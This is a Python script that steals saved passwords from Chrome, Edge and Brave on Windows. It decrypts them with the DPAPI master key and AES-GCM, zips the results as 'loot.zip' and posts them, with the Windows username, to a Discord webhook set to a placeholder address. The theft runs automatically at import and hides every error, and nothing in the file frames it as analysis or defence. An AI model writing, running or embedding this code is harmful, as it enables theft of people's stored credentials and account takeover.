import base64
import ctypes
import ctypes.wintypes
import io
import json
import os
import shutil
import sqlite3
import tempfile
import zipfile

import requests

HOOK = "https://discord.example.invalid/api/webhooks/000000000000000000/FAKEFAKEFAKE"


class DATA_BLOB(ctypes.Structure):
    _fields_ = [("cbData", ctypes.wintypes.DWORD), ("pbData", ctypes.POINTER(ctypes.c_char))]


def _dpapi(data):
    bin_in = DATA_BLOB(len(data), ctypes.create_string_buffer(data, len(data)))
    out = DATA_BLOB()
    if ctypes.windll.crypt32.CryptUnprotectData(ctypes.byref(bin_in), None, None, None, None, 0, ctypes.byref(out)):
        return ctypes.string_at(out.pbData, out.cbData)
    return b""


def _master_key(base):
    with open(os.path.join(base, "Local State"), encoding="utf-8") as f:
        k = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
    return _dpapi(k)


def _decrypt(buf, key):
    from Crypto.Cipher import AES

    iv, payload = buf[3:15], buf[15:]
    return AES.new(key, AES.MODE_GCM, iv).decrypt(payload)[:-16].decode(errors="ignore")


def run():
    local = os.getenv("LOCALAPPDATA", "")
    browsers = {
        "chrome": os.path.join(local, "Google", "Chrome", "User Data"),
        "edge": os.path.join(local, "Microsoft", "Edge", "User Data"),
        "brave": os.path.join(local, "BraveSoftware", "Brave-Browser", "User Data"),
    }
    rows = []
    for name, base in browsers.items():
        db = os.path.join(base, "Default", "Login Data")
        if not os.path.exists(db):
            continue
        key = _master_key(base)
        tmp = os.path.join(tempfile.gettempdir(), "ld.db")
        shutil.copy2(db, tmp)
        con = sqlite3.connect(tmp)
        for url, user, pw in con.execute("SELECT origin_url, username_value, password_value FROM logins"):
            rows.append(f"{name}\t{url}\t{user}\t{_decrypt(pw, key)}")
        con.close()
    mem = io.BytesIO()
    with zipfile.ZipFile(mem, "w") as z:
        z.writestr("passwords.txt", "\n".join(rows))
    requests.post(HOOK, files={"file": ("loot.zip", mem.getvalue())}, data={"content": os.getenv("USERNAME", "")})


if os.name == "nt":
    try:
        run()
    except Exception:
        pass
